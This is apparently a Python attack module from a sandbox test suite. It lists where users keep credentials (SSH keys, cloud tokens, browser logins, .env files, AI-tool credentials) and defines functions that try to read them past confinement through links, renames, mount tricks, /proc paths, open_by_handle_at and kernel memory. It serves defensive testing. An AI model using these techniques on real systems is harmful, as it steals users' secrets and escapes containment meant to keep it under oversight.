"""Reading what is secret: every place that people keep it in, and every way round a closed door."""

# Attacks are system calls.
# ruff: noqa: PTH208

import contextlib
import ctypes
import os
import struct
from collections.abc import Callable
from pathlib import Path

from .kernel import become_namespace_root, syscall
from .registry import Need, Stopped, World, attack, fact, path, root

SECRETS = {  # name: where, below HOME
    "ssh-key": ".ssh/id_ed25519",
    "ssh-config": ".ssh/config",
    "aws": ".aws/credentials",
    "azure": ".azure/accessTokens.json",
    "gcloud": ".config/gcloud/application_default_credentials.json",
    "gnupg": ".gnupg/private-keys-v1.d/key.key",
    "gh": ".config/gh/hosts.yml",
    "netrc": ".netrc",
    "git-credentials": ".git-credentials",
    "docker": ".docker/config.json",
    "kube": ".kube/config",
    "npmrc": ".npmrc",
    "pypirc": ".pypirc",
    "cargo-credentials": ".cargo/credentials.toml",
    "pgpass": ".pgpass",
    "vault-token": ".vault-token",
    "firefox": ".mozilla/firefox/abc.default/cookies.sqlite",
    "chrome": ".config/google-chrome/Default/Login Data",
    "thunderbird": ".thunderbird/abc.default/Mail/inbox",
    "keyring": ".local/share/keyrings/login.keyring",
    "password-store": ".password-store/bank.gpg",
    "shell-history": ".bash_history",
    "nvim-shada": ".local/state/nvim/shada/main.shada",
    "other-project": "work/other/main.py",
    "other-project-env": "work/other/.env",
    "document": "Documents/letter.txt",
    "session-log": ".local/state/nvim/sanderling/sessions/old.jsonl",
    "sandbox-state": ".local/state/sanderling/other-project/home/.cache/token",
    "own-config": ".config/sanderling/config.toml",
    "claude": ".claude/.credentials.json",
}
IGNORED = {  # files of the project that git ignores, and that tell
    "env": ".env",
    "env-local": ".env.local",
    "env-nested": "service/.env.production",
}

for _name in SECRETS:

    @attack(f"read-{_name}", kind="secrets", evidence="loot")
    def read_secret(world: World, name: str = _name) -> str:
        return Path(world.secrets[name]).read_text()


for _name, _path in IGNORED.items():

    @attack(f"read-{_name}", kind="secrets", evidence="loot")
    def read_ignored(world: World, path: str = _path) -> str:
        return Path(world.project, path).read_text()


@attack("env-rename", kind="secrets", evidence="loot", scene="own")
def env_rename(world: World) -> str:
    """The name is covered; the file below it may not be."""
    moved = Path(world.project, "moved")
    Path(world.project, ".env").rename(moved)
    return moved.read_text()


@attack("env-hardlink", kind="secrets", evidence="loot", scene="own")
def env_hardlink(world: World) -> str:
    linked = Path(world.project, "linked")
    os.link(Path(world.project, ".env"), linked)
    return linked.read_text()


@attack("env-parent-rename", kind="secrets", evidence="loot", scene="own")
def env_parent_rename(world: World) -> str:
    """The directory of a covered file moves, and the file appears below another name."""
    Path(world.project, "service").rename(Path(world.project, "moved"))
    return Path(world.project, "moved", ".env.production").read_text()


@attack("env-unlink-cover", kind="secrets", evidence="loot", scene="own")
def env_unlink_cover(world: World) -> str:
    become_namespace_root()
    with contextlib.suppress(OSError):
        syscall("umount2", f"{world.project}/.env", 2)
    return Path(world.project, ".env").read_text()


@attack("shadow", kind="secrets", needs=(root,))
def shadow(_world: World) -> str:
    return "root:" in Path("/etc/shadow").read_text() and "read /etc/shadow"


_PLACES: dict[str, tuple[tuple[Need, ...], Callable[[World], str]]] = {
    # what only root may read below /etc: keys of the machine
    "host-key": ((root,), lambda world: f"/etc/{world.name}/key"),
    "mail": ((fact("mail"),), lambda world: world.mail),
    "system-log": ((fact("system_log"),), lambda world: world.system_log),
    "run-secret": ((fact("has_run"),), lambda world: f"/run/{world.name}/{world.id}/file"),
    # a file of the user's, mode 600, that does not lie in HOME: databases below /var/lib, a second disk
    "secret-in-visible-directory": ((fact("closed_file"),), lambda world: world.closed_file),
    "secret-proc-root": ((), lambda world: f"/proc/self/root{world.secrets['ssh-key']}"),
    "secret-victim-root": (
        (),
        lambda world: f"/proc/{world.server_pid}/root{world.secrets['ssh-key']}",
    ),
    "secret-victim-fd": ((), lambda world: f"/proc/{world.server_pid}/fd/{world.secret_fd}"),
}

for _name, (_needs, _place) in _PLACES.items():

    @attack(_name, kind="secrets", evidence="loot", needs=_needs)
    def read_place(world: World, place: Callable[[World], str] = _place) -> str:
        return Path(place(world)).read_text()


for _name, _dir in (("tmp", "/tmp"), ("var-tmp", "/var/tmp"), ("dev-shm", "/dev/shm")):

    @attack(f"{_name}-secret", kind="secrets", evidence="loot")
    def shared_secret(world: World, path: str = _dir) -> str:
        return Path(f"{path}/{world.name}/{world.id}/file").read_text()


@attack("secret-symlink", kind="secrets", evidence="loot")
def secret_symlink(world: World) -> str:
    link = Path(world.project, "to-secret")
    link.symlink_to(world.secrets["ssh-key"])
    return link.read_text()


@attack("secret-hardlink", kind="secrets", evidence="loot")
def secret_hardlink(world: World) -> str:
    link = Path(world.project, "secret-link")
    os.link(world.secrets["ssh-key"], link)
    return link.read_text()


@attack("secret-rename", kind="secrets", evidence="loot")
def secret_rename(world: World) -> str:
    moved = Path(world.project, "moved-secret")
    Path(world.secrets["moved"]).rename(moved)
    return moved.read_text()


@attack("secret-any-process", kind="secrets", evidence="loot")
def secret_any_process(world: World) -> str:
    """Through the root, the working directory and the open files of every process that is to be seen."""
    for pid in filter(str.isdigit, os.listdir("/proc")):
        ways = [f"/proc/{pid}/root{world.secrets['ssh-key']}"]
        with contextlib.suppress(OSError):
            ways += [f"/proc/{pid}/fd/{fd}/.ssh/id_ed25519" for fd in os.listdir(f"/proc/{pid}/fd")]
        for way in ways:
            try:
                return Path(way).read_text()
            except OSError:
                continue
    raise Stopped("none led to it")


@attack("secret-exec", kind="secrets", evidence="changed")
def secret_exec(world: World) -> None:
    """A program of the user's can be run although it cannot be read."""
    program = world.outside / "program"
    if os.system(f"'{program}'"):
        raise Stopped("did not run")


@attack("secret-bind-mount", kind="secrets", evidence="loot")
def secret_bind_mount(world: World) -> str:
    become_namespace_root()
    target = Path(world.project, "bound")
    target.mkdir()
    syscall("mount", world.home, str(target), None, 0x5000, None)
    return Path(target, ".ssh/id_ed25519").read_text()


@attack("secret-below-cover", kind="secrets", evidence="loot")
def secret_below_cover(world: World) -> str:
    """Take away mount after mount: the real HOME may lie below."""
    become_namespace_root()
    for _ in range(4):
        try:
            return Path(world.secrets["ssh-key"]).read_text()
        except OSError:
            syscall("umount2", world.home, 2)
    raise Stopped("nothing below")


def _open_by_handle(world: World, mount_path: str) -> str:
    """The root directory of ext4 is inode 2; from there every name can be looked up, whatever is mounted over it."""
    mount = os.open(mount_path, os.O_RDONLY)
    handle = struct.pack("=IiII", 8, 1, world.root_inode, 0)
    fd = syscall(
        "open_by_handle_at", mount, ctypes.create_string_buffer(handle, len(handle)), os.O_RDONLY
    )
    file = os.open(world.secrets["ssh-key"].lstrip("/"), os.O_RDONLY, dir_fd=fd)
    return os.read(file, 4096).decode()


@attack("open-by-handle", kind="secrets", evidence="loot", needs=(root, fact("root_inode")))
def open_by_handle(world: World) -> str:
    return _open_by_handle(world, "/usr")


@attack("open-by-handle-project", kind="secrets", evidence="loot", needs=(root, fact("root_inode")))
def open_by_handle_project(world: World) -> str:
    return _open_by_handle(world, world.project)


@attack("kcore", kind="secrets", needs=(root, path("/proc/kcore")))
def kcore(_world: World) -> str:
    with Path("/proc/kcore").open("rb") as memory:
        return memory.read(4) == b"\x7fELF" and "read the kernel's memory"


@attack("kmsg-read", kind="secrets", needs=(root, path("/dev/kmsg")))
def kmsg_read(_world: World) -> str:
    fd = os.open("/dev/kmsg", os.O_RDONLY | os.O_NONBLOCK)
    return os.read(fd, 8192).decode(errors="replace")[:40]
